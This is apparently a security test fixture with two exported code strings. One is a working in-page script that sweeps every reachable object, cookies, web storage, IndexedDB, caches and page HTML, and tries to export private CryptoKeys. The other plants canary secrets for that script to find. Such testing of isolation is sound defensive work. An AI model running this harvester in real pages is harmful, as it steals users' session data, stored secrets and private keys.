/** What a hostile script does once it runs in the page: it looks at everything that a page can reach, and brings it home as text. */
export const ATTACK = `async () => {
  const loot = [];
  const take = (value) => { if (loot.length < 200_000) loot.push(String(value)); };
  const seen = new Set();
  const bytes = (buffer) => { const view = new Uint8Array(buffer); let text = ""; for (const byte of view) text += String.fromCharCode(byte); take(text); };

  // Every object that can be reached: members of every name, getters, prototypes, what is in collections, what promises promise.
  const todo = [globalThis, globalThis.session, globalThis.options, heard, states, errors];
  const look = async (value) => {
    if (typeof value === "string") return take(value);
    if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) return;
    seen.add(value);
    try {
      if (value instanceof ArrayBuffer) return bytes(value);
      if (ArrayBuffer.isView(value)) return bytes(value.buffer.slice(value.byteOffset, value.byteOffset + value.byteLength));
      if (value instanceof Blob) return bytes(await value.arrayBuffer());
      if (value instanceof Promise) value.then((it) => todo.push(it), (it) => todo.push(it));
      if (value instanceof Map || value instanceof Set) todo.push(...[...value].flat());
    } catch { /* a prototype that only looks like one */ }
    if (typeof value === "function") take(Function.prototype.toString.call(value).slice(0, 2_000));
    try {
      for (let at = value; at; at = Object.getPrototypeOf(at)) {
        for (const name of Reflect.ownKeys(at)) {
          take(String(name));
          try { todo.push(value[name]); } catch { /* no such luck */ }
        }
        if (at !== value && seen.has(at)) break;
      }
    } catch { /* another origin's, or dead */ }
  };
  const search = async () => { for (let looks = 0; todo.length > 0 && looks < 100_000; looks++) { await look(todo.shift()); } };

  // The session itself, in every form that it can be had.
  for (const get of [() => JSON.stringify(session), () => String(session), () => structuredClone(session), () => structuredClone(session.error), () => ({ ...session }), () => session.toJSON()]) {
    try { todo.push(get()); } catch (error) { todo.push(error, error.stack, error.message); }
  }
  await search();

  // Storage of every kind.
  take(document.cookie); take(location.href); take(JSON.stringify(history.state)); take(document.documentElement.outerHTML); take(window.name);
  take(JSON.stringify({ ...localStorage })); take(JSON.stringify({ ...sessionStorage }));
  for (const entry of performance.getEntries()) if (entry.entryType !== "navigation") take(JSON.stringify(entry));
  const ask = (request) => new Promise((resolve, reject) => { request.onsuccess = () => resolve(request.result); request.onerror = () => reject(request.error); });
  let keys = 0;
  for (const { name } of await indexedDB.databases()) {
    const base = await ask(indexedDB.open(name));
    for (const place of base.objectStoreNames) {
      const store = () => base.transaction(place).objectStore(place);
      for (const value of [...await ask(store().getAll()), ...await ask(store().getAllKeys())]) {
        take(JSON.stringify(value));
        for (const key of [value, value?.privateKey, value?.publicKey]) {
          if (!(key instanceof CryptoKey) || key.type === "public") continue;
          keys++;
          for (const form of ["raw", "jwk", "pkcs8"]) await crypto.subtle.exportKey(form, key).then((got) => { take("EXPORTED"); todo.push(got); }, () => {});
        }
        todo.push(value);
      }
    }
    base.close();
  }
  await search();
  for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) take(await (await (await caches.open(name)).match(request)).text());
  return { loot: loot.join("\\n"), objects: seen.size, keys };
}`;

/** Secrets that a look at a page should find, put where secrets are found. */
export const PLANT = `async (secret) => {
  const half = (at) => secret + at;
  localStorage.setItem("a", half("-local")); sessionStorage.setItem("a", half("-session")); document.cookie = "a=" + half("-cookie");
  globalThis.deep = { map: new Map([["k", [{ get hidden() { return half("-getter"); } }]]]), promise: Promise.resolve({ in: half("-promise") }) };
  const base = await new Promise((resolve) => { const open = indexedDB.open("planted", 1); open.onupgradeneeded = () => open.result.createObjectStore("x"); open.onsuccess = () => resolve(open.result); });
  await new Promise((resolve) => { const change = base.transaction("x", "readwrite"); change.objectStore("x").put({ bytes: new TextEncoder().encode(half("-bytes")) }, "k"); change.oncomplete = resolve; });
  base.close();
  await (await caches.open("planted")).put("/planted", new Response(half("-cache")));
  heard.push({ message: half("-message") });
  errors.push(Object.assign(new Error(half("-error")), {}));
}`;
